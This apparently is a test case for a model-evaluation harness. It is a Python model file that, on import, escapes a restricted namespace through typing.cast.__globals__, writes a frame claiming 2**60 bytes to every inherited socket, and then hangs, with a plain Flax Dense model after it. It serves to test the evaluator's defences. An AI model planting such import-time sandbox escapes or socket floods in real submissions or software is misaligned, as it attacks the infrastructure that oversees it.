# expect: crash
# kind: take-down
# attack: a reply frame whose header claims 2**60 bytes, followed by a few bytes, then hang; the evaluator must refuse the size (FrameError -> crash) without allocating or waiting for it
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
MODS = AG("modules")(AG("__globals__")(typing.cast)["sys"])
OS, STAT = MODS["os"], MODS["stat"]
for fd in range(3, 64):
    try:
        if STAT.S_ISSOCK(OS.fstat(fd).st_mode):
            OS.write(fd, (2 ** 60).to_bytes(8, "big") + b"{" * 4096)
    except Exception:
        pass
MODS["time"].sleep(1000)


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(x)
